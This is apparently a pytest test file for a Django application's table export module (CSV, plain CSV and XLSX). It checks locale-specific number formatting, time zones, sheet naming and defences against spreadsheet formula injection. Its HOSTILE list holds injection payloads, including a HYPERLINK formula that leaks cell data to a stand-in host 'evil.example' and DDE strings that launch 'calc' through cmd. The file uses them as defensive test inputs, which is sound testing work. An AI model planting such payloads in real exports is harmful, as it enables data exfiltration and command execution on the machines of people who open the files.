"""A table as a file says what the page says: numbers stay numbers, text stays text, whatever program reads it."""

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any, Literal

import openpyxl
import pytest
from django.utils import timezone, translation
from hypothesis import given
from hypothesis import strategies as st

from svyazka.speech.tables import LONGEST, Cell, Column, Kind, Table, as_csv, as_plain_csv, as_xlsx

pytestmark = pytest.mark.requirement("R34")

COLUMNS = (
    Column("Источник"),
    Column("Заявки", "int"),
    Column("Встреч на договор", "number"),
    Column("Конверсия", "share"),
    Column("Сумма", "money"),
    Column("На этапе", "minutes"),
    Column("Получена", "date"),
)
ROW = (
    "рекомендация; сайт, «выставка»",
    1250,
    2.4,
    0.125,
    Decimal("1250000.50"),
    135,
    date(2026, 11, 24),
)
TABLE = Table("Воронка по источникам", COLUMNS, (ROW, ("", 0, None, None, None, None, None)))
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+7 916 123-45-67",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "план,=1+1",
    "план; =1+1",
    'план,"=1+1',
    "план\n+1",
    "план\t@SUM(A1)",
    "план|-1",
    "план,'=1+1",
]


def _csv(table: Table, language: Literal["ru", "en"] = "ru") -> list[list[str]]:
    with translation.override(language):
        raw = as_csv(table)
    assert raw.startswith(b"\xef\xbb\xbf")
    text = io.StringIO(raw.decode("utf-8-sig"), newline="")
    return list(csv.reader(text, delimiter=";" if language == "ru" else ",", strict=True))


def _sheet(table: Table, language: str = "ru") -> Any:
    with translation.override(language):
        return openpyxl.load_workbook(io.BytesIO(as_xlsx(table))).active


def _one(kind: Kind, *cells: Cell) -> Table:
    return Table("Таблица", (Column("Столбец", kind),), [(cell,) for cell in cells])


@pytest.mark.parametrize("language", ["ru", "en"])
def test_plain_csv_is_what_programs_read_in_whatever_language(language: str) -> None:
    with translation.override(language):
        raw = as_plain_csv(TABLE)
    assert not raw.startswith(b"\xef\xbb\xbf")
    row = list(csv.reader(io.StringIO(raw.decode(), newline=""), strict=True))[1]
    assert row[1:5] == ["1250", "2.4", "0.125", "1250000.50"]
    assert row[-1] == "2026-11-24"


def test_russian_csv_is_what_russian_excel_opens() -> None:
    head, row, empty = _csv(TABLE)
    assert head == [
        "Источник",
        "Заявки",
        "Встреч на договор",
        "Конверсия",
        "Сумма",
        "На этапе, мин",
        "Получена",
    ]
    assert row == [ROW[0], "1250", "2,4", "0,125", "1250000,50", "135", "2026-11-24"]
    assert empty == ["", "0", "", "", "", "", ""]


def test_english_csv_is_rfc_4180() -> None:
    head, row, _ = _csv(TABLE, "en")
    assert head[5] == "На этапе, min"
    assert row == [ROW[0], "1250", "2.4", "0.125", "1250000.50", "135", "2026-11-24"]
    with translation.override("en"):
        assert as_csv(TABLE).count(b"\r\n") == 3


def test_a_workbook_has_numbers_with_their_formats_and_a_frozen_heading() -> None:
    sheet = _sheet(TABLE)
    assert (sheet.title, sheet.freeze_panes) == ("Воронка по источникам", "A2")
    assert [cell.value for cell in sheet[1]][5] == "На этапе, ч:мин"
    row = sheet[2]
    assert [cell.value for cell in row] == [
        ROW[0], 1250, 2.4, 0.125, 1250000.5, timedelta(minutes=135), datetime(2026, 11, 24),  # noqa: DTZ001
    ]  # fmt: skip
    assert [cell.number_format for cell in row[1:]] == [
        "#,##0", "#,##0.0#", "0.0%", "#,##0.00", "[h]:mm", "mm-dd-yy",
    ]  # fmt: skip
    assert [cell.value for cell in sheet[3]][1:] == [0, None, None, None, None, None]
    assert sheet.column_dimensions["A"].width > 25


def test_moments_are_told_by_the_readers_clock() -> None:
    table = _one("date", datetime(2026, 11, 24, 22, 30, tzinfo=UTC))
    with timezone.override("Asia/Yekaterinburg"):
        assert _csv(table)[1] == ["2026-11-25 03:30"]
        cell = _sheet(table)["A2"]
    assert cell.value == datetime(2026, 11, 25, 3, 30)  # noqa: DTZ001
    assert cell.number_format == "m/d/yy h:mm"


@pytest.mark.parametrize("typed", HOSTILE)
@pytest.mark.parametrize("language", ["ru", "en"])
def test_nothing_that_was_typed_is_run(typed: str, language: Literal["ru", "en"]) -> None:
    said = typed.replace("\r", "\n")
    table = Table(typed, (Column(typed),), [(typed,)])
    ((head,), (cell,)) = _csv(table, language)
    assert (head, _as_typed(cell)) == (cell, said)
    assert not _begun(as_csv(table)) & FORMULAS
    sheet = _sheet(table, language)
    for cell in (sheet["A1"], sheet["A2"]):
        assert cell.data_type == "s"
        assert cell.value == said
        assert cell.hyperlink is None


def test_a_negative_number_is_a_number() -> None:
    table = _one("int", -5)
    assert _csv(table) == [["Столбец"], ["-5"]]
    assert _sheet(table)["A2"].value == -5


def test_what_is_no_number_is_an_empty_cell() -> None:
    table = _one("share", float("nan"), float("inf"), None)
    assert _csv(table)[1:] == [[""], [""], [""]]
    assert [_sheet(table)[f"A{row}"].value for row in (2, 3, 4)] == [None, None, None]


def test_links_are_text_and_long_texts_are_cut_where_excel_ends() -> None:
    sheet = _sheet(_one("text", "https://svyazka.example/", "ы" * 40_000))
    assert sheet["A2"].hyperlink is None
    assert len(sheet["A3"].value) == LONGEST


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Сроки [2026/11]: «все»?", "Сроки 2026 11 «все»"),
        ("'", "Svyazka"),
        ("History", "Svyazka"),
        ("ы" * 40, "ы" * 31),
    ],
)
def test_a_sheet_has_a_name_that_excel_takes(title: str, name: str) -> None:
    assert _sheet(Table(title, (Column("А"),), ())).title == name


def test_a_row_that_does_not_fit_the_columns_is_a_mistake_of_ours() -> None:
    for write in (as_csv, as_xlsx):
        with pytest.raises(ValueError, match="zip"):
            write(Table("Таблица", (Column("А"), Column("Б")), [("один",)]))


_TYPED = st.text(max_size=60) | st.text("=+-@,;|\t\n\"' ж5", max_size=20)
FORMULAS = set("=+-@＝＋－＠")


def _as_typed(cell: str) -> str:
    """A cell of CSV without the apostrophes that keep it from being run."""
    return re.sub(r"(?:(?<=[,;|\t\n])|\A)'(?=(?:[^\S\t\n]|[\"'])*[=+\-@＝＋－＠])", "", cell)


def _begun(raw: bytes) -> set[str]:
    """With which letters cells begin, whatever a spreadsheet splits at, whether or not it minds quotes, trims blanks, takes quotes off."""
    text, first = raw.decode("utf-8-sig"), set()
    for comma in ",;|\t":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            lines = io.StringIO(text, newline="")
            for row in csv.reader(lines, delimiter=comma, quoting=quoting):
                first |= {cell.strip(' "\t\n\xa0')[:1] for cell in row}
    return first


def _readable(text: str) -> str:
    """The text with what XML can't write replaced, line ends being one."""
    plain = text.replace("\r\n", "\n").replace("\r", "\n")
    return "".join(
        letter
        if letter in "\t\n"
        or (letter >= " " and not "\ud800" <= letter <= "\udfff" and letter not in "\ufffe\uffff")
        else "\ufffd"
        for letter in plain
    )


@given(st.lists(st.tuples(_TYPED, _TYPED), max_size=6), st.sampled_from(["ru", "en"]))
def test_whatever_was_typed_comes_back_as_it_was(
    rows: list[tuple[str, str]], language: Literal["ru", "en"]
) -> None:
    table = Table("Т", (Column("А"), Column("Б")), rows)
    told = [[_readable(cell) for cell in row] for row in rows]
    assert [[_as_typed(cell) for cell in row] for row in _csv(table, language)[1:]] == told
    with translation.override(language):
        assert not _begun(as_csv(table)) & FORMULAS, "split at whatever"
    found = _sheet(table, language).iter_rows(
        min_row=2, max_row=max(len(rows) + 1, 2), max_col=2, values_only=True
    )
    read = [[cell or "" for cell in row] for row in found][: len(rows)]
    assert read == told


@given(st.lists(st.decimals(min_value=-(10**11), max_value=10**11, places=2), min_size=1, max_size=5))
def test_sums_keep_their_kopecks(sums: list[Decimal]) -> None:
    table = _one("money", *sums)
    assert [Decimal(row[0].replace(",", ".")) for row in _csv(table)[1:]] == sums
    sheet = _sheet(table)
    read = [Decimal(str(sheet[f"A{row}"].value)) for row in range(2, len(sums) + 2)]
    assert [round(value, 2) for value in read] == sums
